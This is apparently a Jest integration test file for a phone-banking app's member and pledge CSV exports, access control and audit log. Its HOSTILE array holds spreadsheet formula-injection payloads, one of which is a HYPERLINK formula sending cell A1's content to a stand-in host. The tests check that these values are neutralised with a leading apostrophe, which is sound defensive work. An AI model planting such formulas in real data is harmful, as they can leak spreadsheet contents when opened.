import { Role } from '@phonebank/domain';
import { parse } from 'csv-parse/sync';
import { parsePhoneNumber } from 'libphonenumber-js/max';

import { startTestApp, type TestApp, type TestClient } from '../../test/test-app';

describe('CSV exports and the audit log', () => {
  let testApp: TestApp;
  let admin: TestClient;
  let electionId: string;
  let london: string;
  let scotland: string;
  let coordinator: { id: string; client: TestClient };
  let volunteer: TestClient;
  const candidates: Record<string, string> = {};

  async function download(client: TestClient, path: string) {
    const response = await fetch(`${testApp.baseUrl}${path}`, {
      headers: client.cookie ? { cookie: client.cookie } : {},
    });
    // Bytes, not response.text(): that would drop the byte-order mark the test looks for.
    const bytes = Buffer.from(await response.arrayBuffer());
    const text = bytes.toString('utf8');
    return {
      response,
      bytes,
      text,
      rows: response.ok
        ? (parse(text, { columns: true, bom: true }) as Record<string, string>[])
        : [],
    };
  }

  beforeAll(async () => {
    testApp = await startTestApp();
    admin = testApp.admin.client;
    electionId = (
      await admin.ok<{ createElection: { id: string } }>(
        `mutation { createElection(input: { name: "Exports", rule: SCOTTISH }) { id } }`,
      )
    ).createElection.id;
    const region = async (code: string) =>
      (
        await admin.ok<{ createRegion: { id: string } }>(
          `mutation($id: ID!, $code: String!) { createRegion(input: { electionId: $id, code: $code, name: $code, seats: 3 }) { id } }`,
          { id: electionId, code },
        )
      ).createRegion.id;
    london = await region('LE');
    scotland = await region('SC');
    for (const name of ['Alice Ames', 'Bob Brown', 'Cara Cole']) {
      candidates[name] = (
        await admin.ok<{ createCandidate: { id: string } }>(
          `mutation($regionId: ID!, $name: String!) { createCandidate(input: { regionId: $regionId, name: $name }) { id } }`,
          { regionId: london, name },
        )
      ).createCandidate.id;
    }
    coordinator = await testApp.user(Role.COORDINATOR, [london]);
    volunteer = (await testApp.user(Role.VOLUNTEER, [london])).client;
    await testApp.sql(
      `INSERT INTO member (election_id, membership_number, first_name, last_name, phone, email, postcode, region_id, erased_at)
       VALUES ($1, 'L1', 'Lou', 'O''Neill, Jr', '+447700900001', 'lou@example.org', 'N1 9GU', $2, NULL),
              ($1, 'L2', 'Lee', 'Line "Two"', NULL, NULL, NULL, $2, NULL),
              ($1, 'erased:abc', '', '', NULL, NULL, NULL, $2, now()),
              ($1, 'S1', 'Sam', 'Scot', '+447700900003', NULL, 'EH1 1AA', $3, NULL)`,
      [electionId, london, scotland],
    );
    await testApp.sql(
      `INSERT INTO pledge (member_id, election_id, region_id, status, ranking, second_preference, second_preference_candidate_id, ballot_received, voted, is_latest)
       SELECT m.id, m.election_id, m.region_id, v.status::pledge_status, v.ranking, v.second::second_preference_answer, v.second_candidate, v.ballot, NULL, v.latest
         FROM member m JOIN (VALUES
           ('L1', 'UNDECIDED', ARRAY[]::uuid[], 'NOT_ASKED', NULL::uuid, NULL::boolean, false),
           ('L1', 'PLEDGED', ARRAY[$2::uuid, $3::uuid], 'AGREED', $4::uuid, true, true),
           ('erased:abc', 'AGAINST', ARRAY[]::uuid[], 'NOT_ASKED', NULL::uuid, NULL::boolean, true),
           ('S1', 'LEANING', ARRAY[]::uuid[], 'NOT_ASKED', NULL::uuid, NULL::boolean, true)
         ) AS v(number, status, ranking, second, second_candidate, ballot, latest) ON v.number = m.membership_number
        WHERE m.election_id = $1`,
      [electionId, candidates['Bob Brown'], candidates['Alice Ames'], candidates['Cara Cole']],
    );
  });
  afterAll(() => testApp.close());

  it('streams the members of the election, without the erased, as CSV with a row count', async () => {
    const { response, rows } = await download(
      admin,
      `/api/exports/members.csv?electionId=${electionId}`,
    );
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(
      /^attachment; filename="members-.*\.csv"$/,
    );
    expect(response.headers.get('x-row-count')).toBe('3');
    expect(rows.map((row) => row['Membership number']).sort()).toEqual(['L1', 'L2', 'S1']);
    expect(rows.find((row) => row['Membership number'] === 'L1')).toEqual({
      'Membership number': 'L1',
      'First name': 'Lou',
      'Last name': "O'Neill, Jr",
      Phone: '07700 900001',
      'Phone type': '',
      Email: 'lou@example.org',
      Postcode: 'N1 9GU',
      Region: 'LE',
      'Do not call': 'no',
      'Opted out at': '',
      'Opt-out reason': '',
      Pledge: 'Pledged',
      'First preference': 'Bob Brown',
    });
    expect(rows.find((row) => row['Membership number'] === 'L2')).toMatchObject({
      'Last name': 'Line "Two"',
      Pledge: '',
      'First preference': '',
    });
  });

  it('keeps a coordinator to their regions and refuses volunteers', async () => {
    const own = await download(
      coordinator.client,
      `/api/exports/members.csv?electionId=${electionId}`,
    );
    expect(own.rows.map((row) => row['Membership number']).sort()).toEqual(['L1', 'L2']);
    expect(own.response.headers.get('x-row-count')).toBe('2');
    const other = await download(
      coordinator.client,
      `/api/exports/members.csv?regionId=${scotland}`,
    );
    expect(other.response.status).toBe(403);
    expect(JSON.parse(other.text)).toMatchObject({ code: 'FORBIDDEN' });
    const otherPledges = await download(
      coordinator.client,
      `/api/exports/pledges.csv?regionId=${scotland}`,
    );
    expect(otherPledges.response.status).toBe(403);
    for (const path of ['/api/exports/members.csv', '/api/exports/pledges.csv']) {
      expect((await download(volunteer, path)).response.status).toBe(403);
      expect((await download(testApp.client(), path)).response.status).toBe(401);
    }
    const bad = await download(admin, '/api/exports/members.csv?regionId=not-a-uuid');
    expect(bad.response.status).toBe(400);
    expect(JSON.parse(bad.text)).toMatchObject({ code: 'BAD_USER_INPUT', field: 'regionId' });
  });

  it('exports one row per member with a latest pledge, ranking as names in order', async () => {
    const { response, rows } = await download(
      coordinator.client,
      `/api/exports/pledges.csv?regionId=${london}`,
    );
    expect(response.status).toBe(200);
    expect(response.headers.get('x-row-count')).toBe('2');
    expect(Object.keys(rows[0])).toEqual([
      'Membership number',
      'First name',
      'Last name',
      'Phone',
      'Region',
      'Pledge',
      'Ranking',
      'Second preference',
      'Second preference candidate',
      'Ballot received',
      'Voted',
      'Called by',
      'Called at',
    ]);
    const lou = rows.find((row) => row['Membership number'] === 'L1');
    expect(lou).toMatchObject({
      'First name': 'Lou',
      Phone: '07700 900001',
      Region: 'LE',
      Pledge: 'Pledged',
      Ranking: 'Bob Brown; Alice Ames',
      'Second preference': 'Agreed',
      'Second preference candidate': 'Cara Cole',
      'Ballot received': 'yes',
      Voted: '',
      'Called at': expect.stringMatching(/^\d{4}-\d\d-\d\d \d\d:\d\d$/),
    });
    // The erased member's pledge stays, anonymous, so the totals still add up.
    expect(rows.find((row) => row.Pledge === 'Against')).toMatchObject({
      'Membership number': '',
      'First name': '',
      'Last name': '',
      Phone: '',
    });
    const all = await download(admin, `/api/exports/pledges.csv?electionId=${electionId}`);
    expect(all.rows.map((row) => row.Pledge).sort()).toEqual(['Against', 'Leaning', 'Pledged']);
  });

  it('records each export with its row count, and lets admins read and filter the log', async () => {
    const AUDIT = `query($filter: AuditFilter, $offset: Int, $limit: Int) { auditLog(filter: $filter, offset: $offset, limit: $limit) {
      total offset limit items { id at action subjectType subjectId details user { id email } region { code } } } }`;
    type Entry = {
      id: string;
      at: string;
      action: string;
      details: string;
      user: { id: string } | null;
      region: { code: string } | null;
    };
    const read = async (filter: Record<string, unknown>, limit = 50) =>
      (await admin.ok<{ auditLog: { total: number; items: Entry[] } }>(AUDIT, { filter, limit }))
        .auditLog;

    const exports = await read({ userId: coordinator.id, action: 'EXPORT_MEMBERS' });
    expect(exports.total).toBe(1);
    expect(exports.items[0]).toMatchObject({
      action: 'EXPORT_MEMBERS',
      user: { id: coordinator.id },
      region: null,
    });
    expect(JSON.parse(exports.items[0].details)).toMatchObject({ rows: 2, electionId });
    const pledges = await read({ userId: coordinator.id, action: 'EXPORT_PLEDGES' });
    expect(pledges.items.map((item) => JSON.parse(item.details).rows)).toEqual([2]);
    expect(pledges.items[0].region).toEqual({ code: 'LE' });

    const everything = await read({});
    expect(everything.total).toBe(4);
    const times = everything.items.map((item) => Date.parse(item.at));
    expect([...times].sort((a, b) => b - a)).toEqual(times);
    const page = await read({}, 2);
    expect(page.items.map((item) => item.id)).toEqual(
      everything.items.slice(0, 2).map((item) => item.id),
    );

    const future = new Date(Date.now() + 60_000).toISOString();
    expect((await read({ from: future })).total).toBe(0);
    expect((await read({ to: future })).total).toBe(4);
    expect((await read({ from: everything.items[0].at })).total).toBeGreaterThanOrEqual(1);

    const refused = await coordinator.client.fails(AUDIT, {});
    expect(refused.extensions?.code).toBe('FORBIDDEN');
    expect((await admin.fails(AUDIT, { limit: 201 })).extensions?.code).toBe('BAD_USER_INPUT');
  });
  describe('files a spreadsheet opens safely and readably', () => {
    // What an attacker could type as a name at an import or on a call, and what the cell must
    // hold instead: a leading ' makes Excel, Sheets and LibreOffice show it as text.
    const HOSTILE = [
      '=HYPERLINK("http://x?x="&A1,"click")',
      '+SUM(1+1)',
      '-2+3',
      '@SUM(A1)',
      '\t=1+2',
      '\r=1+2',
    ];
    const safe = (value: string) => `'${value}`;
    const BOM = Buffer.from([0xef, 0xbb, 0xbf]);
    // Phones of each shape, to hold the export's national form to libphonenumber's.
    const UK_PHONES = [
      '+447700900034',
      '+442079460000',
      '+441134960000',
      '+441614960000',
      '+441632960000',
      '+441697731234',
      '+443001234567',
      '+448001234567',
      '+44800123456',
      '+445601234567',
    ];
    let hostileElection: string;
    let hostileRegion: string;

    beforeAll(async () => {
      hostileElection = (
        await admin.ok<{ createElection: { id: string } }>(
          `mutation { createElection(input: { name: "Hostile", rule: SCOTTISH }) { id } }`,
        )
      ).createElection.id;
      hostileRegion = (
        await admin.ok<{ createRegion: { id: string } }>(
          `mutation($id: ID!) { createRegion(input: { electionId: $id, code: "HX", name: "Hostile", seats: 3 }) { id } }`,
          { id: hostileElection },
        )
      ).createRegion.id;
      const caller = await testApp.user(Role.VOLUNTEER, [hostileRegion]);
      await testApp.sql(`UPDATE region SET name = $2 WHERE id = $1`, [hostileRegion, HOSTILE[2]]);
      await testApp.sql(`UPDATE "user" SET name = $2 WHERE id = $1`, [caller.id, HOSTILE[3]]);
      await testApp.sql(`INSERT INTO candidate (region_id, name) VALUES ($1, $2)`, [
        hostileRegion,
        HOSTILE[0],
      ]);
      await testApp.sql(
        `INSERT INTO member (election_id, membership_number, first_name, last_name, phone, phone_type, email, postcode, region_id, do_not_call, opted_out_at, opt_out_reason)
         VALUES ($1, 'H1', $3, $4, '+447700900034', 'MOBILE', $5, $6, $2, true, '2026-12-08 02:28:22.046+00', $7),
                ($1, 'H2', 'Björn', $8, '+33612345678', 'MOBILE', NULL, NULL, $2, false, NULL, NULL)`,
        [hostileElection, hostileRegion, ...HOSTILE],
      );
      await testApp.sql(
        `INSERT INTO member (election_id, membership_number, first_name, last_name, phone, region_id)
         SELECT $1, 'P' || ordinality, 'Phone', 'Shape', phone, $2
           FROM unnest($3::text[]) WITH ORDINALITY AS phones(phone, ordinality)`,
        [hostileElection, hostileRegion, UK_PHONES.slice(1)],
      );
      await testApp.sql(
        `INSERT INTO pledge (member_id, election_id, region_id, status, ranking, ballot_received, recorded_by_id, created_at)
         SELECT m.id, m.election_id, m.region_id, 'PLEDGED', ARRAY[c.id], false, $2, '2026-12-08 02:28:22.046+00'
           FROM member m JOIN candidate c ON c.region_id = m.region_id
          WHERE m.election_id = $1 AND m.membership_number = 'H1'`,
        [hostileElection, caller.id],
      );
    });

    it('neutralises formulas in members.csv, and shows pledges, phones, yes/no and local times as people read them', async () => {
      const { response, bytes, text, rows } = await download(
        admin,
        `/api/exports/members.csv?electionId=${hostileElection}`,
      );
      expect(response.status).toBe(200);
      expect(bytes.subarray(0, 3)).toEqual(BOM);
      const h1 = rows.find((row) => row['Membership number'] === 'H1');
      expect(h1).toEqual({
        'Membership number': 'H1',
        'First name': safe(HOSTILE[0]),
        'Last name': safe(HOSTILE[1]),
        Phone: '07700 900034',
        'Phone type': 'Mobile',
        Email: safe(HOSTILE[2]),
        Postcode: safe(HOSTILE[3]),
        Region: safe(HOSTILE[2]),
        'Do not call': 'yes',
        // 02:28 UTC is 02:28 in London in December (GMT).
        'Opted out at': '2026-12-08 02:28',
        'Opt-out reason': safe(HOSTILE[4]),
        Pledge: 'Pledged',
        'First preference': safe(HOSTILE[0]),
      });
      expect(rows.find((row) => row['Membership number'] === 'H2')).toMatchObject({
        'First name': 'Björn',
        'Last name': safe(HOSTILE[5]),
        // Not a UK number: it stays international, so it keeps its + and is neutralised.
        Phone: safe('+33612345678'),
        'Do not call': 'no',
      });
      // Every cell is quoted, so a ; or tab in it cannot start a cell where those split.
      expect(text).toContain(`"${safe(HOSTILE[1])}"`);
      expect(text).toContain('"07700 900034"');
      // UK numbers as written in the UK, with the spaces that keep a spreadsheet from reading
      // them as numbers and dropping the 0.
      const phoneOf = (number: string) =>
        rows.find((row) => row['Membership number'] === number)?.Phone;
      expect(UK_PHONES.map((_e164, index) => phoneOf(index === 0 ? 'H1' : `P${index}`))).toEqual(
        UK_PHONES.map((e164) => parsePhoneNumber(e164).formatNational()),
      );

      const tokyo = await download(
        admin,
        `/api/exports/members.csv?electionId=${hostileElection}&timeZone=Asia/Tokyo`,
      );
      expect(tokyo.rows.find((row) => row['Membership number'] === 'H1')?.['Opted out at']).toBe(
        '2026-12-08 11:28',
      );
      const badZone = await download(
        admin,
        `/api/exports/members.csv?electionId=${hostileElection}&timeZone=Mars/Olympus`,
      );
      expect(badZone.response.status).toBe(400);
      expect(JSON.parse(badZone.text)).toMatchObject({ code: 'BAD_USER_INPUT', field: 'timeZone' });
    });

    it('neutralises formulas in pledges.csv and says who called, and when, in the coordinator’s zone', async () => {
      const { response, bytes, rows } = await download(
        admin,
        `/api/exports/pledges.csv?regionId=${hostileRegion}&timeZone=Europe/London`,
      );
      expect(response.status).toBe(200);
      expect(bytes.subarray(0, 3)).toEqual(BOM);
      expect(rows).toEqual([
        {
          'Membership number': 'H1',
          'First name': safe(HOSTILE[0]),
          'Last name': safe(HOSTILE[1]),
          Phone: '07700 900034',
          Region: safe(HOSTILE[2]),
          Pledge: 'Pledged',
          Ranking: safe(HOSTILE[0]),
          'Second preference': 'Not asked',
          'Second preference candidate': '',
          'Ballot received': 'no',
          Voted: '',
          'Called by': safe(HOSTILE[3]),
          'Called at': '2026-12-08 02:28',
        },
      ]);
    });

    it('neutralises formulas in an import’s errors.csv, headers included, and keeps Björn readable', async () => {
      const quoted = (value: string) => `"${value.replace(/"/g, '""')}"`;
      const file = [
        `membership_number,first_name,last_name,phone,region,${quoted(HOSTILE[3])}`,
        `X1,${quoted(HOSTILE[0])},${quoted(HOSTILE[1])},12345,HX,${quoted(HOSTILE[2])}`,
        `X2,Björn,${quoted(HOSTILE[4])},12345,HX,${quoted(HOSTILE[5])}`,
        '',
      ].join('\n');
      const uploaded = await fetch(
        `${testApp.baseUrl}/api/imports/members?electionId=${hostileElection}`,
        {
          method: 'POST',
          headers: { 'content-type': 'text/csv', cookie: admin.cookie as string },
          body: file,
        },
      );
      expect(uploaded.status).toBe(202);
      const { id } = (await uploaded.json()) as { id: string };
      const deadline = Date.now() + 30_000;
      for (;;) {
        const { memberImport } = await admin.ok<{ memberImport: { status: string } }>(
          `query($id: ID!) { memberImport(id: $id) { status } }`,
          { id },
        );
        if (memberImport.status === 'SUCCEEDED') break;
        if (memberImport.status === 'FAILED' || Date.now() > deadline)
          throw new Error(`import ${id} ended ${memberImport.status}`);
        await new Promise((done) => setTimeout(done, 200));
      }
      const { response, bytes, text } = await download(admin, `/api/imports/${id}/errors.csv`);
      expect(response.status).toBe(200);
      expect(bytes.subarray(0, 3)).toEqual(BOM);
      const records = parse(text, { bom: true }) as string[][];
      expect(records).toEqual([
        [
          'Line',
          'Reason',
          'membership_number',
          'first_name',
          'last_name',
          'phone',
          'region',
          safe(HOSTILE[3]),
        ],
        [
          '2',
          "phone '12345' is not a UK number",
          'X1',
          safe(HOSTILE[0]),
          safe(HOSTILE[1]),
          '12345',
          'HX',
          safe(HOSTILE[2]),
        ],
        [
          // The importer counts the carriage return in the last cell as a line end.
          expect.stringMatching(/^[34]$/),
          "phone '12345' is not a UK number",
          'X2',
          'Björn',
          safe(HOSTILE[4]),
          '12345',
          'HX',
          safe(HOSTILE[5]),
        ],
      ]);
      expect(text).toContain(`"${safe(HOSTILE[1])}"`);
    });
  });
});
